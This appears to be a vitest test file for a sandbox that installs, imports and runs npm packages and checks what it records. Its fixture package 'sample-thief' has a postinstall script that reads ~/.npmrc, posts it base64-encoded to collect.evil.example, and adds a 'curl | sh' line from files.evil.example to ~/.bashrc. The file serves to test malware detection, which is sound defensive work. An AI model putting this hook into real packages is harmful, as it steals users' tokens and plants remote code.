import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { existsSync, readdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { tarball } from '../harness/archives.ts'
import { runIn, whyNot } from '../harness/sandbox.ts'
import type { Seen } from '../harness/sandbox.ts'

const missing = await whyNot('npm')
if (missing !== null) console.warn(`not tested: ${missing}`)

const THIEF = {
  'package.json': JSON.stringify({ name: 'sample-thief', version: '1.0.0', main: 'index.js', bin: { sample: 'cli.js' }, scripts: { postinstall: 'node setup.cjs' } }),
  'setup.cjs': [
    "const fs = require('node:fs'), https = require('node:https')",
    "const taken = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8')",
    "https.request('https://collect.evil.example/take', { method: 'POST' }).end(Buffer.from(taken).toString('base64'))",
    "fs.appendFileSync(process.env.HOME + '/.bashrc', '\\ncurl -s http://files.evil.example/x | sh\\n')",
  ].join('\n'),
  'index.js': "exports.greet = (name) => `hello ${name}`\nexports.list = () => require('node:child_process').execFileSync('ls', ['-la'])\nexports.quit = () => process.exit(7)\nexports.hang = () => { for (;;); }\nexports.after = () => require('node:fs').writeFileSync('after.txt', 'still here')\n",
  'lib/hidden.mjs': "import { writeFileSync } from 'node:fs'\nwriteFileSync('loaded.txt', 'hidden.mjs was loaded')\n",
  'cli.js': "#!/usr/bin/env node\nrequire('node:fs').appendFileSync('ran.txt', JSON.stringify(process.argv.slice(2)) + '\\n')\n",
}

describe.skipIf(missing !== null)('an npm package', () => {
  let seen: Seen
  const before = readdirSync(tmpdir()).filter((name) => name.startsWith('sluice-box-'))
  beforeAll(async () => {
    seen = await runIn({ ecosystem: 'npm', name: 'sample-thief', version: '1.0.0', file: 'sample-thief-1.0.0.tgz' }, await tarball('package', THIEF))
  }, 240_000)

  it('is run to its end, in every phase', () => {
    expect(seen.record.phases.map(({ phase, status }) => [phase, status])).toEqual([['install', 'completed'], ['import', 'completed'], ['execute', 'completed']])
    expect(seen.record.missing).toEqual([])
  })

  it('is seen to take and send a planted secret, by file and line', () => {
    const [read] = seen.acts('read', /\.npmrc$/).filter(({ by }) => by?.package === 'sample-thief')
    expect(read).toMatchObject({ done: true, by: { file: 'setup.cjs', line: 2 } })
    const [sent] = seen.acts('request', /^https:\/\/collect\.evil\.example\/take/)
    expect(sent).toMatchObject({ method: 'POST', by: { package: 'sample-thief', file: 'setup.cjs', line: 3 }, honey: expect.arrayContaining([expect.objectContaining({ token: 'npm-token', encodings: ['base64'] })]) })
    expect(seen.findings.map(({ severity }) => severity)).toContain('critical')
  })

  it('leaves what it changed in the record, with its content', () => {
    const change = seen.phase('laptop', 'install').disk.find(({ path }) => path.endsWith('/.bashrc'))
    expect(change?.what).toBe('changed')
    expect(Buffer.from(change?.content ?? []).toString()).toContain('curl -s http://files.evil.example/x | sh')
  })

  it('has every module loaded', () => {
    expect(seen.phase('laptop', 'import').disk.map(({ path }) => path.split('/').at(-1))).toContain('loaded.txt')
  })

  it('has its functions called, after one that ends the process and one that never returns, and its commands run', () => {
    const { disk, acts } = seen.phase('laptop', 'execute')
    const content = (name: string): string => Buffer.from(disk.find(({ path }) => path.endsWith(`/${name}`))?.content ?? []).toString()
    expect(content('after.txt')).toBe('still here')
    expect(content('ran.txt').trim().split('\n').slice(-3)).toEqual(['[]', '["--help"]', '["hello world"]'])
    expect(acts.filter(({ kind, argv }) => kind === 'exec' && argv?.join(' ') === 'ls -la').length).toBeGreaterThan(0)
  })

  afterAll(() => {
    const left = readdirSync(tmpdir()).filter((name) => name.startsWith('sluice-box-') && !before.includes(name))
    expect(left.filter((name) => existsSync(`${tmpdir()}/${name}/mirror/npm/sample-thief`))).toEqual([])
  })
})
